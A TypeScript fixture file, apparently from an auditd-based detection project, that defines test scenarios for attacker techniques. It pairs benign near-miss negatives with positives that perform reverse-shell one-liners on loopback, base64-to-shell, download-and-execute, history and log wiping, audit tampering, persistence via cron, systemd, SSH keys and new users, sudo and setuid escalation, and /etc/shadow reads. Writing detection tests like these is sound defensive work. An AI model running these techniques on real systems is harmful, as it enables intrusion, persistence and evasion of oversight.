// What capture.ts performs for each rule: a harmless positive (the behaviour, for real, on loopback or
// with throwaway files/accounts under names starting with auditsight-fx) and a benign near-miss negative.
// Scripts run as root under bash with cwd $FX (/root/auditsight-fx, created and removed by capture.ts),
// PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin. Keep them short: every command
// becomes fixture lines. setup/cleanup run outside the captured session (not part of the fixture).
export interface Scenario {
  /** `<tactic>/<rule file stem>` under detections/rules/. */
  rule: string;
  setup?: string;
  positive: string;
  negative: string;
  cleanup?: string;
}

/** A plain loopback listener that swallows input, killed at the end of the script. */
const listen = (port: number) => `ncat -l 127.0.0.1 ${port} >/dev/null 2>&1 & L=$!; sleep 0.4`;
const unlisten = 'sleep 0.3; kill $L 2>/dev/null';

export const SCENARIOS: Scenario[] = [
  // ---------------------------------------------------------------- execution
  {
    rule: 'execution/netcat_bind_shell',
    // netcat-openbsd has no -e (it refuses and exits: the attempt is what auditd sees); ncat really
    // listens with -e on loopback for a second and is killed.
    positive: `nc -l -p 4444 -e /bin/sh 2>/dev/null
ncat -l 127.0.0.1 4445 -e /bin/sh & P=$!; sleep 1; kill $P`,
    negative: `ncat -l 127.0.0.1 4445 & P=$!; sleep 0.5; nc -z 127.0.0.1 4445; kill $P
nc -z 127.0.0.1 22`,
  },
  {
    rule: 'execution/bash_dev_tcp_shell',
    positive: `${listen(4451)}
bash -c 'exec 3<>/dev/tcp/127.0.0.1/4451; echo auditsight-fx >&3'
${unlisten}`,
    negative: `bash -c 'echo "bash can open /dev/tcp sockets"; cat /proc/net/tcp >/dev/null'`,
  },
  {
    rule: 'execution/python_reverse_shell',
    positive: `${listen(4452)}
/usr/bin/python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("127.0.0.1",4452));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);pty.spawn("/bin/true")'
${unlisten}`,
    negative: `/usr/bin/python3 -c 'import socket;print(socket.gethostname())' >/dev/null`,
  },
  {
    rule: 'execution/perl_reverse_shell',
    positive: `${listen(4453)}
perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in(4453,inet_aton("127.0.0.1")))){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/true")}'
${unlisten}`,
    negative: `perl -MSocket -e 'print inet_ntoa(inet_aton("127.0.0.1")), "\\n"' >/dev/null`,
  },
  {
    rule: 'execution/base64_decoded_to_shell',
    // The decoded payload is `id`.
    positive: `echo aWQK | base64 -d | sh >/dev/null`,
    negative: `echo aGVsbG8K | base64 -d >/dev/null
bash -c 'id >/dev/null'`,
  },
  {
    rule: 'execution/exec_from_tmp',
    positive: `cp /bin/true /tmp/auditsight-fx; /tmp/auditsight-fx; rm -f /tmp/auditsight-fx`,
    negative: `ls /tmp >/dev/null; printf 'true\\n' > /tmp/auditsight-fx.sh; cat /tmp/auditsight-fx.sh >/dev/null; rm -f /tmp/auditsight-fx.sh`,
  },
  {
    rule: 'execution/exec_from_dev_shm',
    positive: `cp /bin/true /dev/shm/auditsight-fx; /dev/shm/auditsight-fx; rm -f /dev/shm/auditsight-fx`,
    negative: `ls /dev/shm >/dev/null; df /dev/shm >/dev/null`,
  },
  // ---------------------------------------------------------------- command and control
  {
    rule: 'command_and_control/netcat_reverse_shell',
    positive: `${listen(4450)}
ncat 127.0.0.1 4450 -e /bin/true
${unlisten}`,
    negative: `${listen(4450)}
echo auditsight-fx | ncat 127.0.0.1 4450
${unlisten}`,
  },
  {
    rule: 'command_and_control/socat_shell',
    positive: `socat TCP-LISTEN:4446,bind=127.0.0.1,reuseaddr EXEC:/bin/true & P=$!; sleep 0.4
echo auditsight-fx | socat - TCP:127.0.0.1:4446; sleep 0.2; kill $P 2>/dev/null`,
    negative: `socat TCP-LISTEN:4446,bind=127.0.0.1,reuseaddr - >/dev/null & P=$!; sleep 0.4
echo auditsight-fx | socat - TCP:127.0.0.1:4446; sleep 0.2; kill $P 2>/dev/null`,
  },
  {
    rule: 'command_and_control/interpreter_network_connection',
    positive: `${listen(4454)}
/usr/bin/python3 -c 'import socket;socket.create_connection(("127.0.0.1",4454)).close()'
${unlisten}`,
    negative: `${listen(4454)}
curl -s -m 1 http://127.0.0.1:4454/ >/dev/null
${unlisten}`,
  },
  {
    rule: 'command_and_control/download_chmod_execute',
    setup: `cp /bin/true "$FX/payload"`,
    positive: `/usr/bin/python3 -m http.server 4460 --bind 127.0.0.1 -d "$FX" >/dev/null 2>&1 & S=$!; sleep 1
curl -s -o /var/tmp/auditsight-fx-dl http://127.0.0.1:4460/payload
chmod +x /var/tmp/auditsight-fx-dl
/var/tmp/auditsight-fx-dl
rm -f /var/tmp/auditsight-fx-dl; kill $S`,
    negative: `/usr/bin/python3 -m http.server 4460 --bind 127.0.0.1 -d "$FX" >/dev/null 2>&1 & S=$!; sleep 1
curl -s -o /var/tmp/auditsight-fx-dl http://127.0.0.1:4460/payload
chmod 644 /var/tmp/auditsight-fx-dl
sha256sum /var/tmp/auditsight-fx-dl >/dev/null
rm -f /var/tmp/auditsight-fx-dl; kill $S`,
  },
  // ---------------------------------------------------------------- defense evasion
  {
    rule: 'defense_evasion/exec_from_hidden_path',
    positive: `mkdir -p "$FX/.hidden"; cp /bin/true "$FX/.hidden/auditsight-fx"; "$FX/.hidden/auditsight-fx"`,
    negative: `mkdir -p "$FX/.hidden"; cd "$FX/.hidden" && /bin/true; ls -a "$FX" >/dev/null`,
  },
  {
    rule: 'defense_evasion/system_binary_dropped_and_executed',
    positive: `cp /bin/true /usr/local/sbin/auditsight-fx
chmod 755 /usr/local/sbin/auditsight-fx
/usr/local/sbin/auditsight-fx
rm -f /usr/local/sbin/auditsight-fx`,
    negative: `cp /bin/true /usr/local/sbin/auditsight-fx
chmod 755 /usr/local/sbin/auditsight-fx
rm -f /usr/local/sbin/auditsight-fx
/usr/bin/true`,
  },
  {
    rule: 'defense_evasion/shell_history_deleted',
    setup: `mkdir -p "$FX/home"; echo 'ls' > "$FX/home/.bash_history"; echo 'ls' > "$FX/home/.zsh_history"`,
    positive: `rm -f "$FX/home/.bash_history"; shred -u "$FX/home/.zsh_history"`,
    negative: `echo 'ls' > "$FX/home/.bash_history"; cat "$FX/home/.bash_history" >/dev/null; echo x > "$FX/home/notes.txt"; rm -f "$FX/home/notes.txt"`,
  },
  {
    rule: 'defense_evasion/shell_history_truncated',
    setup: `mkdir -p "$FX/home"; echo 'ls' > "$FX/home/.bash_history"`,
    positive: `truncate -s 0 "$FX/home/.bash_history"
bash -c ': > "$FX/home/.bash_history"'
ln -sf /dev/null "$FX/home/.bash_history"`,
    negative: `wc -l "$FX/home/.bash_history" >/dev/null; ln -sf /etc/hostname "$FX/home/hostname-link"; truncate -s 0 "$FX/home/notes.txt"`,
  },
  {
    rule: 'defense_evasion/shell_history_disabled',
    positive: `bash -c 'unset HISTFILE; true'
bash -c 'export HISTFILE=/dev/null; true'
bash -c 'set +o history; true'
env HISTSIZE=0 /bin/true`,
    negative: `bash -c 'echo "$HISTFILE" >/dev/null; export HISTSIZE=1000; true'`,
  },
  {
    rule: 'defense_evasion/audit_rules_changed',
    positive: `auditctl -w /tmp/auditsight-fx-watch -p wa -k auditsight_fx
auditctl -W /tmp/auditsight-fx-watch -p wa -k auditsight_fx`,
    negative: `auditctl -l >/dev/null; auditctl -s >/dev/null`,
  },
  {
    rule: 'defense_evasion/audit_daemon_stopped',
    // systemd is not running on this VM, so systemctl only tries (that attempt is the signal); signal 0
    // only checks that auditd exists. Neither stops the capture.
    positive: `systemctl stop auditd 2>/dev/null; pkill -0 auditd`,
    negative: `systemctl status auditd >/dev/null 2>&1; pgrep auditd >/dev/null`,
  },
  {
    rule: 'defense_evasion/audit_config_modified',
    positive: `echo '## auditsight-fx' > /etc/audit/rules.d/auditsight-fx.rules; rm -f /etc/audit/rules.d/auditsight-fx.rules`,
    negative: `cat /etc/audit/auditd.conf >/dev/null; ls /etc/audit/rules.d >/dev/null`,
  },
  {
    rule: 'defense_evasion/audit_log_tampering',
    positive: `echo auditsight-fx > /var/log/audit/auditsight-fx.log; truncate -s 0 /var/log/audit/auditsight-fx.log; rm -f /var/log/audit/auditsight-fx.log`,
    negative: `tail -n 1 /var/log/audit/audit.log >/dev/null; ls -l /var/log/audit >/dev/null`,
  },
  {
    rule: 'defense_evasion/log_files_cleared',
    setup: `echo auditsight-fx > /var/log/auditsight-fx.log; echo auditsight-fx > /var/log/auditsight-fx2.log; echo auditsight-fx > /var/log/auditsight-fx3.log`,
    positive: `truncate -s 0 /var/log/auditsight-fx.log
shred -u /var/log/auditsight-fx2.log
rm -f /var/log/auditsight-fx3.log
journalctl --vacuum-size=100G >/dev/null 2>&1`,
    negative: `tail -n 1 /var/log/dpkg.log >/dev/null 2>&1; echo x > /tmp/auditsight-fx.log; rm -f /tmp/auditsight-fx.log; journalctl -n 1 >/dev/null 2>&1`,
    cleanup: `rm -f /var/log/auditsight-fx.log /var/log/auditsight-fx2.log /var/log/auditsight-fx3.log`,
  },
  {
    rule: 'defense_evasion/timestomp',
    setup: `touch "$FX/file"`,
    positive: `touch -d '2020-01-01 00:00' "$FX/file"; touch -r /etc/hostname "$FX/file"; touch -t 202001010000 "$FX/file"`,
    negative: `touch "$FX/file"; date -d yesterday >/dev/null; stat "$FX/file" >/dev/null`,
  },
  // ---------------------------------------------------------------- persistence
  {
    rule: 'persistence/cron_job_modified',
    positive: `echo '* * * * * root true # auditsight-fx' > /etc/cron.d/auditsight-fx; rm -f /etc/cron.d/auditsight-fx`,
    negative: `cat /etc/crontab >/dev/null 2>&1; ls /etc/cron.d >/dev/null; crontab -l >/dev/null 2>&1`,
  },
  {
    rule: 'persistence/systemd_unit_created',
    positive: `printf '[Unit]\\nDescription=auditsight-fx\\n[Service]\\nExecStart=/bin/true\\n' > /etc/systemd/system/auditsight-fx.service; rm -f /etc/systemd/system/auditsight-fx.service`,
    negative: `ls /etc/systemd/system >/dev/null; cat /usr/lib/systemd/system/*.service >/dev/null 2>&1; true`,
  },
  {
    rule: 'persistence/rc_script_modified',
    // /etc/rc.local does not exist here: created, made executable (what makes it run at boot), removed.
    setup: `test ! -e /etc/rc.local || { echo "rc.local exists: refusing to touch it" >&2; exit 1; }`,
    positive: `printf '#!/bin/sh\\nexit 0\\n' | tee /etc/rc.local >/dev/null; chmod +x /etc/rc.local; rm -f /etc/rc.local`,
    negative: `printf 'exit 0\\n' | tee "$FX/rc.local.copy" >/dev/null; chmod +x "$FX/rc.local.copy"; cat /etc/hostname >/dev/null`,
  },
  {
    rule: 'persistence/shell_profile_modified',
    positive: `cp /dev/null /etc/profile.d/auditsight-fx.sh
sed -i '$a # auditsight-fx' /etc/profile.d/auditsight-fx.sh
rm -f /etc/profile.d/auditsight-fx.sh`,
    // (not `bash -l`: sourcing this VM's profile runs pyenv's init, a thousand lines of unrelated events)
    negative: `cat /etc/profile >/dev/null; sed -n 1p /etc/profile >/dev/null; cp /etc/profile "$FX/profile.copy"`,
  },
  {
    rule: 'persistence/ssh_authorized_keys_modified',
    // authorized_keys2 (still read by OpenSSH's default AuthorizedKeysFile) so root's real file is never touched.
    setup: `test ! -e /root/.ssh/authorized_keys2 || { echo "authorized_keys2 exists: refusing" >&2; exit 1; }`,
    positive: `echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAuditsightFixtureKeyNotARealKeyAAAAAAAAAA auditsight-fx' >> /root/.ssh/authorized_keys2; rm -f /root/.ssh/authorized_keys2`,
    negative: `echo '127.0.0.1 ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAuditsightFixture' > /root/.ssh/known_hosts.auditsight-fx; cat /root/.ssh/known_hosts.auditsight-fx >/dev/null; rm -f /root/.ssh/known_hosts.auditsight-fx`,
  },
  {
    rule: 'persistence/local_user_created',
    positive: `useradd -M -s /usr/sbin/nologin auditsight-fx`,
    negative: `useradd -D >/dev/null; getent passwd root >/dev/null; id auditsight-fx 2>/dev/null; true`,
    cleanup: `userdel auditsight-fx`,
  },
  {
    rule: 'persistence/local_group_created',
    positive: `groupadd auditsight-fxg`,
    negative: `getent group auditsight-fxg >/dev/null; groups >/dev/null`,
    cleanup: `groupdel auditsight-fxg`,
  },
  {
    rule: 'persistence/account_password_changed',
    setup: `useradd -M -s /usr/sbin/nologin auditsight-fx`,
    positive: `echo 'auditsight-fx:Fx-throwaway-Pw-1' | chpasswd`,
    negative: `passwd -S auditsight-fx >/dev/null; chage -l auditsight-fx >/dev/null`,
    cleanup: `userdel auditsight-fx`,
  },
  {
    rule: 'persistence/kernel_module_load',
    // This VM's kernel has no module support (no /lib/modules, no /proc/modules): the attempts are
    // real and audited, the load itself (finit_module, loaded-kernel-module) cannot happen here.
    setup: `printf 'not a module' > "$FX/auditsight-fx.ko"`,
    positive: `insmod "$FX/auditsight-fx.ko" 2>/dev/null; modprobe auditsight_fx 2>/dev/null; true`,
    negative: `modprobe -n auditsight_fx 2>/dev/null; modinfo auditsight_fx 2>/dev/null; lsmod 2>/dev/null; true`,
  },
  // ---------------------------------------------------------------- privilege escalation
  {
    rule: 'privilege_escalation/user_added_to_privileged_group',
    setup: `useradd -M -s /usr/sbin/nologin auditsight-fx`,
    positive: `usermod -aG sudo auditsight-fx`,
    negative: `usermod -c 'auditsight fixture' auditsight-fx; id -nG auditsight-fx >/dev/null`,
    cleanup: `userdel auditsight-fx`,
  },
  {
    rule: 'privilege_escalation/sudoers_modified',
    positive: `echo '# auditsight-fx' > /etc/sudoers.d/auditsight-fx; chmod 440 /etc/sudoers.d/auditsight-fx; rm -f /etc/sudoers.d/auditsight-fx`,
    negative: `ls /etc/sudoers.d >/dev/null; cat /etc/sudoers >/dev/null 2>&1; true`,
  },
  {
    rule: 'privilege_escalation/setuid_setgid_bit_set',
    setup: `cp /bin/true "$FX/suid"; mkdir -p "$FX/shared"`,
    positive: `chmod u+s "$FX/suid"; chmod 2755 "$FX/suid"`,
    negative: `chmod 755 "$FX/suid"; chmod 1777 "$FX/shared"; chmod go-w "$FX/suid"`,
  },
  {
    rule: 'privilege_escalation/file_capabilities_set',
    setup: `cp /bin/true "$FX/cap"`,
    positive: `setcap cap_net_raw+ep "$FX/cap"`,
    negative: `getcap "$FX/cap"; setcap -v cap_net_raw+ep "$FX/cap" >/dev/null 2>&1; true`,
  },
  {
    rule: 'privilege_escalation/ptrace_attach',
    positive: `sleep 5 & P=$!; sleep 0.2; gdb -q -batch -p $P -ex detach >/dev/null 2>&1; kill $P`,
    negative: `/usr/bin/python3 -c 'import ctypes,os;pid=os.fork()
if pid==0:
    ctypes.CDLL(None).ptrace(0,0,0,0); os._exit(0)
os.waitpid(pid,0)'`,
  },
  // ---------------------------------------------------------------- credential access
  {
    rule: 'credential_access/shadow_file_read',
    positive: `cat /etc/shadow >/dev/null; cp /etc/shadow "$FX/shadow.copy"; rm -f "$FX/shadow.copy"`,
    negative: `cat /etc/passwd >/dev/null; grep -c root /etc/group >/dev/null`,
  },
  {
    rule: 'credential_access/ssh_private_key_read',
    setup: `mkdir -p "$FX/.ssh"; ssh-keygen -q -t ed25519 -N '' -C auditsight-fx -f "$FX/.ssh/id_ed25519"`,
    positive: `cat "$FX/.ssh/id_ed25519" >/dev/null; base64 -w0 "$FX/.ssh/id_ed25519" >/dev/null`,
    negative: `cat "$FX/.ssh/id_ed25519.pub" >/dev/null; ssh-keygen -l -f "$FX/.ssh/id_ed25519" >/dev/null`,
  },
  // ---------------------------------------------------------------- discovery
  {
    rule: 'discovery/discovery_command_burst',
    positive: `id >/dev/null; whoami >/dev/null; uname -a >/dev/null; hostname >/dev/null; ip addr >/dev/null 2>&1
ss -tln >/dev/null 2>&1; ps aux >/dev/null; w >/dev/null 2>&1; last -n 3 >/dev/null 2>&1; getent passwd >/dev/null`,
    negative: `id >/dev/null; uname -r >/dev/null; hostname >/dev/null; ls / >/dev/null; date >/dev/null; df -h >/dev/null`,
  },
  {
    rule: 'discovery/network_port_scan',
    positive: `nc -z -w 1 127.0.0.1 20-30 2>/dev/null; true`,
    negative: `nc -z -w 1 127.0.0.1 22 2>/dev/null; true`,
  },
  {
    rule: 'persistence/dynamic_linker_config_modified',
    positive: `echo '# auditsight-fx' > /etc/ld.so.conf.d/auditsight-fx.conf; rm -f /etc/ld.so.conf.d/auditsight-fx.conf`,
    negative: `cat /etc/ld.so.conf >/dev/null; ls /etc/ld.so.conf.d >/dev/null`,
  },
  {
    rule: 'defense_evasion/hidden_file_created_in_tmp',
    positive: `mkdir /tmp/.auditsight-fx; chmod 700 /tmp/.auditsight-fx; rm -rf /tmp/.auditsight-fx`,
    negative: `mkdir /tmp/auditsight-fx-dir; chmod 700 /tmp/auditsight-fx-dir; rm -rf /tmp/auditsight-fx-dir`,
  },
];
